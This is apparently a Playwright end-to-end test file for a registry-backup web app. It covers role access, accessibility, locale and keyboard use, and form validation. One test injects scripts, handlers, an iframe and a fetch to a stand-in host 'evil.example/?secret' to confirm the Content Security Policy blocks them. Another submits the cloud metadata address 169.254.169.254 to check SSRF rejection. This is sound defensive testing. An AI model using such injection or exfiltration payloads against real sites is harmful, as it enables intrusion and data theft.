// Every page opens for who may see it, says what it is, and has no accessibility violation; who may not is told nothing.
import { expect, test, type BrowserContextOptions } from "@playwright/test";
import { harborAdmin, scripted, ready, signedIn, violations } from "./people";

const shop = "/projects/demo/shop";
const wizard = "/restore/new?h=demo&p=shop&at=2099-01-01T00:00:00Z&item=shop/web:1.4.0";
const seen: Record<string, string[]> = {
  dev: [
    "/", "/projects", "/projects?state=gone", shop, `${shop}/browse?repo=shop/web`, `${shop}/changes`, `${shop}/gaps`, "/tags?h=demo&p=shop&repo=shop/web&tag=1.4.0",
    "/search?q=web", "/search?q=nothing-has-this-name", "/restores", "/restores?state=denied", "/restore/new", wizard, "/jobs", "/audit", "/harbors", "/plans", "/me",
  ],
  lead: ["/", "/approvals", "/approvals?tab=team", "/approvals?tab=done", `${shop}/settings`, `${shop}/gaps`],
  ops: [
    "/", shop, "/harbors", "/harbors/new", "/harbors/demo", "/harbors/demo?tab=check", "/harbors/demo?tab=settings", "/harbors/demo/remove", "/vaults", "/vaults/new", "/vaults/1",
    "/plans", "/plans/1", "/plans/new", "/plans/1/edit", "/plans/1/delete", "/plans/left", "/jobs", "/jobs/1", "/dev/gallery",
  ],
  sec: ["/admin/users", "/admin/users/new", "/admin/users/1", "/me"],
  auditor: ["/audit", "/audit?outcome=denied", "/audit/1", "/admin/users", "/vaults/1", "/plans/1", "/harbors/demo?tab=settings"],
};

for (const [login, paths] of Object.entries(seen)) {
  test(`${login} can use every page`, async ({ browser }, info) => {
    test.setTimeout(180_000);
    const js = scripted(info.project.name);
    const { page, errors, close } = await signedIn(browser, login, js);
    const found: string[] = [];
    for (const path of paths) {
      const answer = await page.goto(path);
      expect(answer?.status(), path).toBe(200);
      await ready(page, js);
      await expect(page.getByRole("heading", { level: 1 }), path).toHaveCount(1);
      if (js) found.push(...(await violations(page, path)));
    }
    expect(found).toEqual([]);
    expect(errors).toEqual([]);
    await close();
  });
}

const looked: Record<string, string[]> = {
  dev: ["/", "/projects", shop, `${shop}/browse?repo=shop/web`, `${shop}/gaps`, "/tags?h=demo&p=shop&repo=shop/web&tag=1.4.0", "/search?q=web", "/restores", "/me"],
  ops: ["/harbors", "/harbors/demo", "/vaults", "/vaults/1", "/plans", "/plans/1", "/plans/new", "/plans/left", "/jobs", "/jobs/1", "/dev/gallery"],
  auditor: ["/audit", "/audit/1"],
};

// Pages as others see them: every colour again in the dark, Chinese words in place of English ones, a telephone's width.
const looks: Record<string, BrowserContextOptions> = {
  "in the dark": { colorScheme: "dark" },
  "in Chinese": { locale: "zh-CN", timezoneId: "Asia/Shanghai" },
  "on a telephone": { viewport: { width: 390, height: 844 } },
};

for (const [look, options] of Object.entries(looks)) {
  test(`every page holds ${look}`, async ({ browser }, info) => {
    test.skip(!scripted(info.project.name), "axe needs JavaScript");
    test.setTimeout(120_000);
    const found: string[] = [];
    for (const [login, paths] of Object.entries(looked)) {
      const { page, errors, close } = await signedIn(browser, login, true, options);
      for (const path of paths) {
        await page.goto(path);
        await ready(page, true);
        found.push(...(await violations(page, path)));
        const wider = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
        if (wider > 0) found.push(`${path} is ${wider} px wider than the window`);
      }
      expect(errors).toEqual([]);
      await close();
    }
    expect(found).toEqual([]);
  });
}

test("what strangers see has no violation, refused or not", async ({ browser }, info) => {
  test.skip(!scripted(info.project.name), "axe needs JavaScript");
  const page = await (await browser.newContext()).newPage();
  const found: string[] = [];
  for (const path of ["/signin", "/signin?next=%2Fplans%3Fcame%3Dx", "/nowhere"]) {
    await page.goto(path);
    await ready(page, true);
    found.push(...(await violations(page, path)));
  }
  await page.goto("/signin");
  await ready(page, true);
  await page.fill('input[name="form[login]"]', "nobody");
  await page.fill('input[name="form[password]"]', "not a password");
  await page.locator("main form button[type=submit].primary").click();
  await expect(page.locator(".error-summary")).toBeVisible();
  found.push(...(await violations(page, "a refused sign-in")));
  expect(found).toEqual([]);
  await page.context().close();
});

/** S-71: what is not ours does not run, load or send, on any page; and nothing of ours is refused. */
test("no page breaks its own policy, and what is injected does nothing", async ({ browser }, info) => {
  test.skip(!scripted(info.project.name), "needs JavaScript");
  test.setTimeout(180_000);
  for (const [login, paths] of Object.entries(seen)) {
    const { page, errors, close } = await signedIn(browser, login, true);
    await page.addInitScript(() => {
      const broken: string[] = [];
      Object.assign(window, { broken });
      document.addEventListener("securitypolicyviolation", (event) => broken.push(`${event.violatedDirective} ${event.blockedURI}`));
    });
    for (const path of paths) {
      await page.goto(path);
      await ready(page, true);
      expect(await page.evaluate(() => (window as unknown as { broken: string[] }).broken), path).toEqual([]);
    }
    expect(errors).toEqual([]);
    await close();
  }
  const { page, close } = await signedIn(browser, "dev", true);
  await page.goto(shop);
  await ready(page, true);
  const done = await page.evaluate(async () => {
    const state = window as unknown as { ran: string[] };
    state.ran = [];
    const put = (tag: string, fields: Record<string, string>) => {
      const element = Object.assign(document.createElement(tag), fields);
      document.body.append(element);
      return element;
    };
    put("script", { textContent: "window.ran.push('inline script')" });
    put("script", { src: "https://evil.example/x.js", onload: (() => state.ran.push("foreign script")) as unknown as string });
    const link = put("a", { href: "javascript:window.ran.push('link')" });
    link.click();
    const handler = put("button", {});
    handler.setAttribute("onclick", "window.ran.push('handler')");
    handler.click();
    const frame = put("iframe", { srcdoc: "<script>parent.ran.push('frame')</script>" });
    const image = new Image();
    image.onload = () => state.ran.push("foreign image");
    image.src = "https://evil.example/x.png";
    const sent = await fetch("https://evil.example/?secret").then(() => true, () => false);
    await new Promise((wait) => setTimeout(wait, 500));
    frame.remove();
    return { ran: state.ran, sent };
  });
  expect(done).toEqual({ ran: [], sent: false });
  await close();
});

test("times follow the reader's zone, and a local time leads to its one address", async ({ browser }, info) => {
  const js = scripted(info.project.name);
  const { page, errors, close } = await signedIn(browser, "dev", js, { timezoneId: "Asia/Shanghai" });
  if (!js) {
    await page.goto("/me");
    await page.getByLabel("Time zone").selectOption("Asia/Shanghai");
    await page.getByRole("button", { name: "Use it" }).click();
    await expect(page.getByLabel("Time zone")).toHaveValue("Asia/Shanghai");
  }
  await page.goto(shop);
  await ready(page, js);
  await expect(page.getByRole("heading", { level: 1 })).toContainText("UTC+8");
  const newest = page.locator("table time").first();
  await expect(newest).toHaveAttribute("title", / UTC$/);
  await page.getByRole("button", { name: "Go", exact: true }).click();
  await page.waitForURL(/at=.*Z/);
  await expect(page.getByRole("heading", { level: 1 })).toContainText(await newest.innerText());
  expect(errors).toEqual([]);
  await close();
});

test("the page can be used by keys alone", async ({ browser }, info) => {
  const js = scripted(info.project.name);
  const { page, close } = await signedIn(browser, "dev", js);
  await page.keyboard.press("Tab");
  await expect(page.locator(":focus")).toHaveClass("skip");
  await page.keyboard.press("Enter");
  await expect(page.locator("#main")).toBeFocused();
  if (js) {
    await page.keyboard.press("?");
    await expect(page.getByRole("dialog")).toBeVisible();
    await page.keyboard.press("Escape");
    await expect(page.getByRole("dialog")).toBeHidden();
    await page.keyboard.press("/");
    await expect(page.locator("#q")).toBeFocused();
  } else {
    await page.locator("#q").focus();
  }
  await page.keyboard.type("web:1.4.0");
  await page.keyboard.press("Enter");
  await page.waitForURL(/\/search\?q=/);
  if (js) {
    await page.goto(shop);
    await ready(page, js);
    await page.keyboard.press("[");
    await page.waitForURL(/at=.*Z/);
    await expect(page.locator("#snapshot-after")).toBeVisible();
  }
  await close();
});

test("an operator sees what a rule would let go before it is saved, and what a sweep would free", async ({ browser }, info) => {
  const js = scripted(info.project.name);
  const { page, errors, close } = await signedIn(browser, "ops", js);
  await page.goto("/plans/1/edit");
  await ready(page, js);
  for (const name of ["Hours", "Days", "Weeks"]) await page.getByLabel(name, { exact: true }).fill("0");
  await page.getByLabel("Newest", { exact: true }).fill("1");
  await page.getByRole("button", { name: "Preview" }).click();
  await expect(page.getByText("In the long run one snapshot of each project.")).toBeVisible();
  await expect(page.getByText(/snapshots there are it lets \d+ go\./)).toBeVisible();
  await page.goto("/vaults/1");
  await ready(page, js);
  await page.getByRole("button", { name: "Look what it would free" }).click();
  await page.waitForURL(/\/jobs\/\d+/);
  await expect(async () => {
    if (!js) await page.reload();
    await expect(page.getByText(/would delete 0 objects/)).toBeVisible({ timeout: 1_000 });
  }).toPass();
  await page.goto("/vaults/1");
  await expect(page.getByText("only looked").first()).toBeVisible();
  expect(errors).toEqual([]);
  await close();
});

test("a vault may be in a bucket, and what is wrong with it is said where it was typed", async ({ browser }, info) => {
  const js = scripted(info.project.name);
  const { page, errors, close } = await signedIn(browser, "ops", js);
  await page.goto("/vaults/new");
  await ready(page, js);
  const bucket = page.locator('input[name="form[bucket]"]');
  await expect(page.locator('input[name="form[path]"]')).toBeVisible();
  await expect(bucket).toBeHidden();
  await page.selectOption('select[name="form[kind]"]', "bucket");
  await expect(page.locator('input[name="form[path]"]')).toBeHidden();
  await page.fill('input[name="form[name]"]', "offsite");
  await bucket.fill("harbor-backups");
  // An address inside the server's own network, which nobody allowed.
  await page.fill('input[name="form[endpoint]"]', "https://169.254.169.254");
  await page.fill('input[name="form[access_key]"]', "AKIDEXAMPLE");
  await page.fill('input[name="form[secret]"]', "a secret that does not come back");
  await page.locator("main form button[type=submit].primary").click();
  await expect(page.locator('.field.wrong input[name="form[endpoint]"]')).toBeVisible();
  await expect(page.locator('select[name="form[kind]"]')).toHaveValue("bucket");
  await expect(bucket).toHaveValue("harbor-backups");
  expect(page.url()).not.toContain("secret");
  await expect(page.locator('input[name="form[secret]"]')).toHaveValue("");
  expect(errors).toEqual([]);
  await close();
});

test("an operator has blocked images read through a staging project, and ends that", async ({ browser }, info) => {
  const js = scripted(info.project.name);
  const { page, errors, close } = await signedIn(browser, "ops", js);
  await page.goto("/harbors/demo?tab=settings");
  await ready(page, js);
  const panel = page.locator("section", { has: page.getByRole("heading", { name: "Images that a policy blocks" }) });
  const [login, password] = ["admin_login", "admin_password"].map((name) => panel.locator(`input[name="form[${name}]"]`));
  const on = panel.getByRole("button", { name: "Read them through a staging project" });
  await login.fill("admin");
  await password.fill("not the password");
  await on.click();
  await expect(panel.locator(".field.wrong")).toBeVisible();
  await expect(login).toHaveValue("admin");
  expect(page.url()).not.toContain("password");
  await password.fill(harborAdmin());
  await on.click();
  await expect(panel.getByText("They are read through the staging project.")).toBeVisible();
  await expect(panel.locator("code").filter({ hasText: "breakwater-staging-" }).first()).toBeVisible();
  await page.goto("/harbors/demo");
  await ready(page, js);
  await expect(page.getByText("read through a staging project")).toBeVisible();
  await page.goto("/harbors/demo?tab=settings");
  await ready(page, js);
  await panel.getByRole("button", { name: "Switch it off" }).click();
  await expect(page.getByText("It is off, and the staging project is gone.")).toBeVisible();
  await expect(on).toBeVisible();
  expect(errors).toEqual([]);
  await close();
});

test("a developer finds no pages of operators", async ({ browser }, info) => {
  const { page, close } = await signedIn(browser, "dev", scripted(info.project.name));
  for (const path of ["/vaults", "/plans/new", "/accounts"]) {
    const answer = await page.goto(path);
    expect([403, 404], path).toContain(answer?.status());
  }
  await close();
});

test("a stranger is sent to the sign-in and comes back to where they wanted", async ({ page }) => {
  await page.goto("/restores");
  await expect(page).toHaveURL(/\/signin\?.*restores/);
});
